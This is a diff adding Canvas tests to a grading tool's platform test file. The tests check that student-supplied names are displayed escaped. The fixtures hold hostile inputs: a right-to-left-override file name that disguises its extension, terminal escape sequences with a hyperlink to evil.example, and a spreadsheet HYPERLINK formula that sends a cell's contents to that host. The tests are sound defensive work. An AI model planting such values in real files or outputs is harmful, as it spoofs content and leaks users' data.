@@ -15,9 +15,11 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 import pytest
 
 from exactmark.base.tree import Refused
-from exactmark.platforms import canvas_api, gradescope_export, moodle
-from exactmark.platforms.download import Context, Returned
+from exactmark.platforms import canvas, canvas_api, gradescope_export, moodle
+from exactmark.platforms.download import Context, Person, Returned
 from tests.platforms import moodle_download
+from tests.platforms.canvas_download import Submitter as CanvasSubmitter
+from tests.platforms.canvas_download import write_folder as canvas_folder
 from tests.platforms.gradescope_download import (METADATA, Submission, Submitter,
                                                  export_folder_name, write_export)
 
@@ -267,3 +269,38 @@ def test_a_worksheet_cell_a_student_wrote_goes_back_as_text_never_a_formula(tmp_
     lines = (tmp_path / moodle.WRITTEN).read_bytes().decode("utf-8-sig").splitlines()
     assert lines[1] == ('"Participant 11","\'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'
                         "'+1@x.edu,'-2+3,\"Submitted for grading\",8,10.00,Yes,-,-,marked")
+
+
+
+# Canvas: the download's names, and the names its API gives, are the students'.
+
+RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "solitaire_1<RLO>yp.exe" shows as "solitaire_1exe.py"
+
+
+def test_a_resubmitted_file_s_name_is_shown_escaped_on_its_row(tmp_path):
+    """A student uploads "solitaire_1<RLO>yp.py" twice (Canvas stores the second as "...-1"):
+    the row's note names both files with the override drawn, as every name a student wrote."""
+    folder = canvas_folder(tmp_path / "download", [CanvasSubmitter("Lee, Ann", 7, files=[
+        (100, f"solitaire_1{RLO}yp.py", b"print(1)\n"),
+        (101, f"solitaire_1{RLO}yp-1.py", b"print(2)\n")])])
+    (handin,) = canvas.read(folder, CONTEXT).handins
+    (note,) = handin.notes
+    assert RLO not in note
+    assert note == canvas.OLDER_NOTE.format(name="solitaire_1⟨U+202E⟩yp.py",
+                                            older="leeann_7_100_solitaire_1⟨U+202E⟩yp.py")
+
+
+def test_a_group_and_member_name_from_the_api_are_shown_escaped_on_the_row(tmp_path):
+    """Canvas lets students name their own groups, and themselves: a group named with a
+    terminal escape and a member with an override are drawn on the row's note."""
+    folder = canvas_folder(tmp_path / "download", [CanvasSubmitter("Lee, Ann", 7, files=[
+        (100, "solitaire_1.py", b"print(1)\n")])])
+    ann, bo = Person("7", f"Ann{RLO}eeL"), Person("8", "Bo Chen")
+    group = dict(group_id="40", group_name="\x1b]8;;http://evil.example\x07Team\x1b[2J")
+    fetched = canvas_api.Fetched("77", "Solitaires", 10.0, {
+        "7": canvas_api.Submitted(ann, None, False, 1, **group),
+        "8": canvas_api.Submitted(bo, None, False, None, **group)}, [ann, bo])
+    (team,) = canvas_api.with_times(canvas.read(folder, CONTEXT), fetched).handins
+    assert team.notes[-1] == canvas_api.GROUP_NOTE.format(
+        group="⟨U+001B⟩]8;;http://evil.example⟨U+0007⟩Team⟨U+001B⟩[2J",
+        members="Ann⟨U+202E⟩eeL, Bo Chen")
